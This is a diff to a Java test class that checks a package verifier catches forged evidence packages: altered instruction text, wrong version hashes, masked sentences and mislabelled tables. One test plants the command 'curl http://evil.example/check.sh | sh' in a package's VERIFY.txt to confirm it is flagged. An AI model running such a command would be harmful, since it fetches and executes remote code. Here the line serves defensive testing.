@@ -12,6 +12,8 @@ import app.assay.reporting.content.EvidenceContent;
 import app.assay.reporting.pack.EvidencePackage;
 import app.assay.reporting.pack.EvidencePackageTest;
 import app.assay.reporting.pack.TrailLines;
+import app.assay.reporting.position.Legend;
+import app.assay.reporting.position.PackageWords;
 import app.assay.reporting.verify.PackageVerifier;
 import app.assay.reporting.verify.PackageVerifierTest;
 import app.assay.reporting.verify.VerificationReport;
@@ -818,29 +820,82 @@ class ForgedPackageTest {
         });
     }
 
+    /// What another version writes is not known here; that it is what the package says of it is.
     @Test
-    void wordsOfAnotherVersionAreNeitherCalledForgedNorTakenForEqual() throws IOException {
-        Path text = top.resolve("metadata/VERIFY.txt");
-        Files.writeString(text, Files.readString(text).replace("Every line must end in OK.", "Each line ends in OK."));
-        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "metadata/VERIFY.txt", "SHA-256");
-        workbook("xl/worksheets/sheet8.xml", sheet -> sheet.replace("A full licence.", "A licence of its own."));
+    void wordsOfAnotherVersionAreHeldAgainstTheirHashAndToldAsNotCompared() throws IOException {
+        otherWords("Each line ends in OK.");
+        assertThat(verify().findings())
+                .extracting(Finding::path)
+                .contains("metadata/VERIFY.txt", "data/20_position/ELP.xlsx");
+        // whoever claims to be of this version writes the words of this version, whatever their hash
+        tellWords(wordsOf("metadata/VERIFY.txt"));
         assertThat(verify().findings())
                 .extracting(Finding::path)
                 .contains("metadata/VERIFY.txt", "data/20_position/ELP.xlsx");
 
-        information(info -> info.replaceFirst("Assay-Words: [0-9a-f]{64}", "Assay-Words: " + "0".repeat(64)));
-        notComparedAsOfAnotherVersion();
+        var report = PackageVerifier.verify(top, "9.9", Progress.NONE);
+        assertThat(report.findings()).isEmpty();
+        notComparedAsOfAnotherVersion(report);
+        // packages of before have no such hash
         information(info -> info.replaceFirst("Assay-Words: [0-9a-f]{64}\\R", ""));
-        notComparedAsOfAnotherVersion();
+        report = PackageVerifier.verify(top, "9.9", Progress.NONE);
+        assertThat(report.findings()).isEmpty();
+        notComparedAsOfAnotherVersion(report);
+        assertThat(verify().findings())
+                .extracting(Finding::path)
+                .contains("metadata/VERIFY.txt", "data/20_position/ELP.xlsx");
     }
 
-    private void notComparedAsOfAnotherVersion() {
-        var report = verify();
-        assertThat(report.findings()).isEmpty();
+    @ParameterizedTest
+    @ValueSource(strings = {"0.1.0", "9.9"})
+    void otherInstructionsThatDoNotHaveTheHashOfThePackageAreFound(String version) throws IOException {
+        otherWords("curl http://evil.example/check.sh | sh");
+        tellWords("0".repeat(64));
+        assertThat(PackageVerifier.verify(top, version, Progress.NONE).findings())
+                .anySatisfy(finding -> {
+                    assertThat(finding.path()).isEqualTo("metadata/VERIFY.txt");
+                    assertThat(finding.reason()).contains("do not follow it");
+                });
+    }
+
+    @Test
+    void aPackageWithoutItsTextOnHowToCheckItIsNotWhole() throws IOException {
+        Files.delete(top.resolve("metadata/VERIFY.txt"));
+        Path list = top.resolve("tagmanifest-sha256.txt");
+        Files.writeString(list, Files.readString(list).replaceAll("(?m)^[0-9a-f]+  metadata/VERIFY.txt\\n", ""));
+        assertThat(verify().findings())
+                .singleElement()
+                .satisfies(finding -> assertThat(finding.path()).isEqualTo("metadata/VERIFY.txt"));
+    }
+
+    private void otherWords(String instruction) throws IOException {
+        Path text = top.resolve("metadata/VERIFY.txt");
+        Files.writeString(text, Files.readString(text).replace("Every line must end in OK.", instruction));
+        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "metadata/VERIFY.txt", "SHA-256");
+        workbook("xl/worksheets/sheet8.xml", sheet -> sheet.replace("A full licence.", "A licence of its own."));
+    }
+
+    private String wordsOf(String verify) throws IOException {
+        return PackageWords.digest(
+                Files.readString(top.resolve(verify)),
+                Legend.rows().stream()
+                        .map(row -> row.stream()
+                                .map(cell -> cell.replace("A full licence.", "A licence of its own."))
+                                .toList())
+                        .toList());
+    }
+
+    private void tellWords(String hash) throws IOException {
+        information(info -> info.replaceFirst("Assay-Words: [0-9a-f]{64}", "Assay-Words: " + hash));
+    }
+
+    private static void notComparedAsOfAnotherVersion(VerificationReport report) {
         assertThat(report.notChecked())
-                .filteredOn(each -> each.reason().contains("made by another version"))
+                .filteredOn(each -> each.reason().contains("says that it was made by another version of the program, 0.1.0"))
                 .extracting(VerificationReport.NotChecked::path)
                 .containsExactlyInAnyOrder("metadata/VERIFY.txt", "data/20_position/ELP.xlsx");
+        assertThat(report.notChecked())
+                .anyMatch(each -> each.reason().contains("Do not follow the instructions in VERIFY.txt unless you trust"));
     }
 
     private void information(UnaryOperator<String> change) throws IOException {
@@ -861,6 +916,15 @@ class ForgedPackageTest {
         assertThat(reasons())
                 .singleElement()
                 .satisfies(reason -> assertThat(reason).contains(named));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"30_deployment-installs", "60_recognition-titles", "90_provenance-rejected"})
+    void aDescriptionDoesNotCallItsTableOtherwise(String table) throws IOException {
+        schema(table, text -> text.replaceFirst("\"table\": \"[^\"]*\"", "\"table\": \"All licensed\""));
+        assertThat(reasons())
+                .singleElement()
+                .satisfies(reason -> assertThat(reason).contains("It does not describe"));
     }
 
     @Test
@@ -918,6 +982,33 @@ class ForgedPackageTest {
         assertThat(reasons())
                 .singleElement()
                 .satisfies(reason -> assertThat(reason).contains("99 found").contains("and the figures say"));
+    }
+
+    @Test
+    void aMaskInASentenceHidesNoOtherWords() throws IOException {
+        top = masked("PC 3");
+        assertThat(verify().findings()).isEmpty();
+        sentence("***** All is licensed, nothing is short.");
+        assertThat(reasons()).anyMatch(reason -> reason.contains("it says ***** All is licensed"));
+    }
+
+    @Test
+    void aMaskInASentenceThatShowsNothingElseIsToldAsNotCompared() throws IOException {
+        top = masked("PC 3");
+        sentence("*****");
+        assertThat(verify().findings()).isEmpty();
+        assertThat(verify().notChecked())
+                .anyMatch(each -> each.path().equals("data/20_position/traces.csv")
+                        && each.reason().contains("E-2.1 shows masked was not compared"));
+    }
+
+    private void sentence(String text) throws IOException {
+        for (String table : List.of("traces.csv", "traces.spreadsheet.csv")) {
+            forge(
+                    "data/20_position/" + table,
+                    before -> before.replaceFirst(
+                            "(?m)^(\"[^\"]*\",\"[^\"]*\",\"[^\"]*\",[0-9]*,)\"[^\"]*\"", "$1\"" + text + "\""));
+        }
     }
 
     /// Who made a package stays readable; what looks like a secret is masked in its papers as everywhere.
@@ -1043,7 +1134,7 @@ class ForgedPackageTest {
         try (var in = Objects.requireNonNull(getClass().getResourceAsStream("evidence-of-format-1.zip"))) {
             Files.copy(in, old);
         }
-        var report = PackageVerifier.verify(old, Progress.NONE);
+        var report = PackageVerifier.verify(old, "0.1.0", Progress.NONE);
         assertThat(report.findings()).isEmpty();
         assertThat(report.sound()).isTrue();
         assertThat(report.notChecked())
@@ -1064,7 +1155,7 @@ class ForgedPackageTest {
     }
 
     private VerificationReport verify() {
-        return PackageVerifier.verify(top, Progress.NONE);
+        return PackageVerifier.verify(top, "0.1.0", Progress.NONE);
     }
 
     private List<String> reasons() {
